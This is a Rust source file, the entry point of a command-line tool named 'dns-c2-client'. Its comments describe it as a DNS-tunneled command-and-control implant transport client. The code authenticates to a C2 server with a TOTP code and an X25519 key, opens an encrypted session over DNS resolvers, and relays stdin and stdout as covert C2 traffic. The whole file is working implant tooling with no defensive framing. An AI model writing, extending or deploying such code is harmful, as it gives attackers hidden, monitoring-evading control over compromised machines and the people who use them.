//! CLI implant harness: loads a [`ClientConfig`], bootstraps a [`Session`],
//! then offers a line-oriented write/poll loop against stdin/stdout.

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};
use clap::Parser;
use log::{info, warn};
use tokio::io::AsyncBufReadExt;

use dns_c2_client::{ClientConfig, EccEncryptor, Rfc6238Totp, Session, TotpCode};

const VERSION: &str = env!("CARGO_PKG_VERSION");
const BUILD_DATE: &str = env!("BUILD_DATE");
const GIT_HASH: &str = env!("GIT_HASH");

#[derive(Parser)]
#[command(name = "dns-c2-client")]
#[command(version = VERSION)]
#[command(about = "DNS-tunneled C2 implant transport client", long_about = None)]
struct Cli {
    /// Configuration file path (TOML).
    #[arg(short, long, value_name = "FILE")]
    config: PathBuf,

    /// Enable verbose logging (-v info, -vv debug, -vvv trace).
    #[arg(short, long, action = clap::ArgAction::Count)]
    verbose: u8,

    /// Seconds between poll attempts while waiting for a pending envelope.
    #[arg(long, default_value_t = 2)]
    poll_interval_secs: u64,
}

fn init_logging(verbosity: u8) {
    let level = match verbosity {
        0 => "warn",
        1 => "info",
        2 => "debug",
        _ => "trace",
    };
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or(level)).init();
}

#[tokio::main]
async fn main() -> Result<()> {
    let cli = Cli::parse();
    init_logging(cli.verbose);

    info!("dns-c2-client {VERSION} ({GIT_HASH}, built {BUILD_DATE})");

    let config = ClientConfig::from_file(&cli.config)
        .with_context(|| format!("loading config from {}", cli.config.display()))?;
    config.validate().context("validating config")?;

    let totp: Arc<dyn TotpCode> = Arc::new(Rfc6238Totp::new(config.totp_secret()?));
    let server_public_key = config.server_public_key()?;
    let ecc: Arc<dyn EccEncryptor> = Arc::new(dns_c2_client::X25519HybridEncryptor::new(server_public_key));

    info!("bootstrapping session against parent zone {}", config.parent);
    let mut session = Session::init(&config, totp, ecc)
        .await
        .context("session handshake failed")?;
    info!(
        "session ready: dns_session_id=0x{:06x}, {} resolvers",
        session.dns_session_id(),
        session.resolver_count()
    );

    let poll_interval = Duration::from_secs(cli.poll_interval_secs.max(1));
    let mut stdin_lines = tokio::io::BufReader::new(tokio::io::stdin()).lines();

    loop {
        tokio::select! {
            line = read_line(&mut stdin_lines) => {
                match line {
                    Some(Ok(text)) => {
                        if let Err(e) = session.write_envelope(text.as_bytes()).await {
                            warn!("write_envelope failed: {e}");
                        }
                    }
                    Some(Err(e)) => {
                        warn!("stdin read error: {e}");
                        break;
                    }
                    None => break,
                }
            }
            _ = tokio::time::sleep(poll_interval) => {
                match session.read_envelope().await {
                    Ok(Some(envelope)) => {
                        println!("{}", String::from_utf8_lossy(&envelope));
                    }
                    Ok(None) => {}
                    Err(e) => warn!("read_envelope failed: {e}"),
                }
            }
        }
    }

    session.close().await;
    Ok(())
}

async fn read_line(
    lines: &mut tokio::io::Lines<tokio::io::BufReader<tokio::io::Stdin>>,
) -> Option<std::io::Result<String>> {
    lines.next_line().await.transpose()
}
